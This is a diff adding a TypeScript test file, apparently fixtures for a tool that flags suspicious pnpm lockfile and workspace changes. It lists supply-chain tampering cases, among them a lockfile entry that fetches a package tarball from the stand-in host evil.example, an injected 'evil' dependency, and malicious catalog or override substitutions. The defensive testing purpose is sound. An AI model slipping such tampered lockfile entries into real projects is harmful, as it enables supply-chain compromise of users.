@@ -1,0 +1,153 @@
+import { APP, PNPM_LOCK } from "./app.ts";
+import type { AttackClass, Files } from "./attack.ts";
+import { hashOf, lockWith, manifestWith } from "./npm-app.ts";
+import { changed } from "./other-locks.ts";
+
+const LOCK = "pnpm-lock.yaml";
+const SETTINGS = "pnpm-workspace.yaml";
+const WORKFLOW = ".github/workflows/release.yml";
+const LEFT = `{integrity: ${hashOf("A")}}`;
+
+/** The app as it is with pnpm 10, which runs no script without an approval. */
+const WITH_PNPM: Files = {
+  "package-lock.json": null,
+  "package.json": manifestWith({ packageManager: "pnpm@10.20.0" }),
+  [LOCK]: PNPM_LOCK,
+  [WORKFLOW]: changed(APP[WORKFLOW], ["npm ci", "pnpm install --frozen-lockfile"]),
+};
+
+const ARCHIVE = `{integrity: ${hashOf("A")}, tarball: https://evil.example/left.tgz}`;
+
+/** Another package, which a release newly needs that stays as it is. */
+const NEEDING = changed(
+  PNPM_LOCK,
+  ["packages:\n", `packages:\n\n  evil@1.0.0:\n    resolution: {integrity: ${hashOf("E")}}\n`],
+  ["snapshots:\n", "snapshots:\n\n  evil@1.0.0: {}\n"],
+  ["  left@1.0.0: {}\n", "  left@1.0.0:\n    dependencies:\n      evil: 1.0.0\n"],
+);
+
+const IN_CATALOG: Files = {
+  ...WITH_PNPM,
+  "package.json": manifestWith({ packageManager: "pnpm@10.20.0", dependencies: { left: "catalog:" } }),
+  [SETTINGS]: "catalog:\n  left: ^1.0.0\n",
+  [LOCK]: changed(
+    PNPM_LOCK,
+    [
+      "importers:",
+      "catalogs:\n  default:\n    left:\n      specifier: ^1.0.0\n      version: 1.0.0\n\nimporters:",
+    ],
+    ["specifier: ^1.0.0\n        version", "specifier: 'catalog:'\n        version"],
+  ),
+};
+
+export const PNPM_LOCKFILE: AttackClass = {
+  name: "lockfile of pnpm",
+  decides:
+    "pnpm installs what the lockfile says as long as manifests, overrides and catalogs are those that it was written for, and else resolves anew.",
+  attacks: [
+    {
+      name: "takes a release from an archive elsewhere",
+      base: WITH_PNPM,
+      change: { [LOCK]: changed(PNPM_LOCK, [LEFT, ARCHIVE]) },
+      expect: "loud",
+      rule: "packages/source-changed",
+      at: LOCK,
+      real: "pnpm fetches `tarball`. Not tried.",
+    },
+    {
+      name: "takes a release from a folder",
+      base: WITH_PNPM,
+      change: { [LOCK]: changed(PNPM_LOCK, [LEFT, "{directory: ../x, type: directory}"]) },
+      expect: "loud",
+      at: LOCK,
+      real: "pnpm writes `left@file:../x` for a folder. Not tried.",
+    },
+    {
+      name: "lets a release that stays need another package",
+      base: WITH_PNPM,
+      change: { [LOCK]: NEEDING },
+      expect: "loud",
+      at: LOCK,
+      real: "A frozen pnpm links what the snapshot names and asks no manifest. Not tried.",
+    },
+    {
+      name: "replaces a package by a catalog that the lockfile wasn't written for",
+      base: IN_CATALOG,
+      change: { [SETTINGS]: "catalog:\n  left: npm:evil@1.0.0\n" },
+      expect: "loud",
+      rule: "packages/unpinned",
+      real: "pnpm resolves anew unless it is frozen. Not tried.",
+    },
+    {
+      name: "overrides a version that the lockfile hasn't",
+      base: WITH_PNPM,
+      change: { [SETTINGS]: "overrides:\n  left: 1.0.9\n" },
+      expect: "loud",
+      at: SETTINGS,
+      real: "pnpm resolves anew unless it is frozen. Not tried.",
+    },
+    {
+      name: "hides what is asked for behind an override for another place",
+      base: WITH_PNPM,
+      change: {
+        "package.json": manifestWith({
+          packageManager: "pnpm@10.20.0",
+          dependencies: { left: "^2.0.0" },
+          overrides: { left: "^1.0.0" },
+        }),
+      },
+      expect: "loud",
+      rule: "packages/unpinned",
+      real: "pnpm reads `pnpm.overrides` alone. Not tried.",
+    },
+    {
+      name: "installs from a lockfile that lay there unused",
+      base: { [LOCK]: changed(PNPM_LOCK, [LEFT, ARCHIVE]) },
+      change: { [WORKFLOW]: WITH_PNPM[WORKFLOW] ?? "" },
+      expect: "loud",
+      at: LOCK,
+      real: "pnpm reads its own lockfile alone.",
+    },
+    {
+      name: "says nothing of a lockfile of the same packages that lay there unused",
+      base: { [LOCK]: PNPM_LOCK, "package-lock.json": lockWith({}) },
+      change: { [WORKFLOW]: WITH_PNPM[WORKFLOW] ?? "" },
+      expect: "silent",
+      real: "The same packages are installed.",
+    },
+    {
+      name: "says nothing of a catalog that both sides know",
+      base: WITH_PNPM,
+      change: IN_CATALOG,
+      expect: "silent",
+      real: "The same packages are installed.",
+    },
+    {
+      name: "says nothing of an override that the lockfile was written for",
+      base: WITH_PNPM,
+      change: {
+        [SETTINGS]: "overrides:\n  vite>left: 1.0.0\n",
+        [LOCK]: changed(PNPM_LOCK, ["importers:", "overrides:\n  vite>left: 1.0.0\n\nimporters:"]),
+      },
+      expect: "silent",
+      real: "The same packages are installed.",
+    },
+    {
+      name: "says nothing of a newer release",
+      base: WITH_PNPM,
+      change: {
+        [LOCK]: changed(
+          PNPM_LOCK,
+          ["        version: 1.0.0", "        version: 1.0.1"],
+          [
+            `  left@1.0.0:\n    resolution: ${LEFT}`,
+            `  left@1.0.1:\n    resolution: {integrity: ${hashOf("E")}}`,
+          ],
+          ["  left@1.0.0: {}", "  left@1.0.1: {}"],
+        ),
+      },
+      expect: "silent",
+      real: "pnpm 10 runs no script of it.",
+    },
+  ],
+};
